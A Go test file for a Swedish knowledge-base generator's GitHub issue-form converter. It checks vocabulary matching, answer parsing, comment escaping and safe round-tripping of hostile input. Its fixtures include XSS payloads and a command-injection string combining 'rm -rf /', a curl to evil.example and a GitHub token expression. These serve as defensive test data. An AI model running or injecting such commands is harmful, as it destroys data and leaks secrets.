package issueform

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"gopkg.in/yaml.v3"

	"kunskapsbanken/generator/internal/diag"
	"kunskapsbanken/generator/internal/page"
	"kunskapsbanken/generator/internal/vocab"
)

var update = flag.Bool("update", false, "write the issue form again from the vocabularies")

// repo is the repository root, seen from this package's folder.
var repo = filepath.Join("..", "..", "..")

func areas(t *testing.T) *vocab.Areas {
	t.Helper()
	src, err := os.ReadFile(filepath.Join(repo, "content", "omraden.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	var d diag.List
	a := vocab.ParseAreas("content/omraden.yaml", src, &d)
	if d.HasErrors() {
		t.Fatal(d)
	}
	return a
}

// TestFormMatchesVocabularies: the committed form is what Template writes
// from the embedded municipalities and content/omraden.yaml, so the form
// never offers a name kb would refuse, nor misses one it accepts.
func TestFormMatchesVocabularies(t *testing.T) {
	want, err := Template(vocab.Sweden(), areas(t))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(repo, filepath.FromSlash(Path))
	if *update {
		if err := os.WriteFile(path, want, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("%s differs from the municipalities and areas kb knows; run go test ./generator/internal/issueform -update and commit the form", Path)
	}

	// Read back as GitHub would: every municipality and every area label
	// is an option, each once, and every field's id and label is unique.
	var f struct {
		Body []struct {
			Type       string
			ID         string
			Attributes struct {
				Label   string
				Options []any
			}
		}
	}
	if err := yaml.Unmarshal(got, &f); err != nil {
		t.Fatal(err)
	}
	options := map[string][]string{}
	ids, labels := map[string]bool{}, map[string]bool{}
	for _, e := range f.Body {
		if e.Type == "markdown" {
			continue
		}
		if ids[e.ID] || labels[e.Attributes.Label] {
			t.Errorf("id %q or label %q twice", e.ID, e.Attributes.Label)
		}
		ids[e.ID], labels[e.Attributes.Label] = true, true
		for _, o := range e.Attributes.Options {
			if s, ok := o.(string); ok {
				options[e.ID] = append(options[e.ID], s)
			}
		}
	}
	got2, want2 := slices.Sorted(slices.Values(options[fieldMuni])), slices.Sorted(slices.Values(vocab.Sweden().Names()))
	if got, want := got2, want2; strings.Join(got, "\n") != strings.Join(want, "\n") || len(got) != 290 {
		t.Errorf("the form offers %d municipalities, kb knows %d", len(got), len(want))
	}
	var areaLabels []string
	for _, a := range areas(t).List {
		areaLabels = append(areaLabels, a.Label)
	}
	if strings.Join(options[fieldAreas], "\n") != strings.Join(areaLabels, "\n") {
		t.Errorf("areas in the form: %q\nin omraden.yaml: %q", options[fieldAreas], areaLabels)
	}
	if len(ids) != len(Fields) {
		t.Errorf("%d fields in the form, %d in Fields", len(ids), len(Fields))
	}
}

// TestTemplateRefusesCommaInLabel: the form joins a dropdown's answers
// with ", ", so a label holding one could not be read back.
func TestTemplateRefusesCommaInLabel(t *testing.T) {
	var d diag.List
	a := vocab.ParseAreas("omraden.yaml", []byte("areas:\n  - id: x\n    label: \"Lås, larm\"\n    description: d\n"), &d)
	if _, err := Template(vocab.Sweden(), a); err == nil || !strings.Contains(err.Error(), "kommatecken") {
		t.Errorf("Template: %v", err)
	}
}

// TestAnswersHeadingsInText: a heading an editor writes in the story, even
// one named like an earlier question, stays in the story.
func TestAnswersHeadingsInText(t *testing.T) {
	var b strings.Builder
	for _, f := range Fields {
		b.WriteString("### " + f.Label + "\n\n")
		switch f.ID {
		case fieldBody:
			b.WriteString("## Bakgrund\n\n### Rubrik\n\nText.\r\n")
		case fieldTags:
			b.WriteString(noResponse + "\n")
		default:
			b.WriteString(f.ID + "\n")
		}
		b.WriteString("\n")
	}
	a := Answers(b.String())
	if a[fieldBody] != "## Bakgrund\n\n### Rubrik\n\nText." || a[fieldTitle] != fieldTitle || a[fieldTags] != "" {
		t.Errorf("answers: %q", a)
	}
}

// TestCommentEscapes: the text in a comment is shown as text.
func TestCommentEscapes(t *testing.T) {
	c := Comment([]Problem{{Field: "Kommun", Message: `"<img src=x onerror=alert(1)> @team [a](https://x)" är inte en kommun`}})
	for _, bad := range []string{"<img", "@team", "[a]", "(https"} {
		if strings.Contains(c, bad) {
			t.Errorf("comment holds %q:\n%s", bad, c)
		}
	}
	if !strings.Contains(c, "- **Kommun**: ") {
		t.Errorf("comment:\n%s", c)
	}
}

// TestHostileAnswersRoundTrip: whatever an answer holds, the front matter
// reads back as exactly that text (no YAML, no shell, nothing else).
func TestHostileAnswersRoundTrip(t *testing.T) {
	hostile := []string{
		`<script>alert("x")</script>`,
		"`rm -rf /` $(curl evil.example) ${{ github.token }}",
		`"Lund": #1 {a: [b]} & *x* | y \ z`,
		"--- \n...\n- a\n? b",
		"'; echo pwned; '\u2028\u00a0tab\there",
	}
	for _, h := range hostile {
		var b strings.Builder
		for _, f := range Fields {
			b.WriteString("### " + f.Label + "\n\n")
			switch f.ID {
			case fieldTitle, fieldContact, fieldOrg, fieldSummary:
				b.WriteString(h)
			case fieldMuni:
				b.WriteString("Lund")
			case fieldAreas:
				b.WriteString("Digitala lås")
			case fieldStatus:
				b.WriteString("Pilot")
			case fieldBody:
				b.WriteString("Text.")
			case fieldConsent:
				b.WriteString("- [X] " + consentLabel)
			default:
				b.WriteString(noResponse)
			}
			b.WriteString("\n\n")
		}
		res, probs := Convert(b.String(), Input{Number: 1, Today: time.Date(2026, 12, 3, 0, 0, 0, 0, time.UTC), Geo: vocab.Sweden(), Areas: areas(t)})
		if probs != nil {
			t.Fatalf("%q: %v", h, probs)
		}
		p, d := page.Parse(&page.File{Path: res.Path, Kind: page.CaseStudy, Slug: res.Slug, Data: res.Text})
		if d.HasErrors() || p == nil {
			t.Fatalf("%q:\n%s\n%v", h, res.Text, d)
		}
		want := oneLine(h)
		if p.Meta.Title != want || p.Meta.Contact != want || p.Meta.Summary != want || len(p.Meta.Organisations) != 1 || p.Meta.Organisations[0] != want {
			t.Errorf("%q read back as title %q, contact %q, summary %q, organisations %q", want, p.Meta.Title, p.Meta.Contact, p.Meta.Summary, p.Meta.Organisations)
		}
		if res.FieldAt(3) != "Rubrik" {
			t.Errorf("line 3 is from %q", res.FieldAt(3))
		}
	}
}
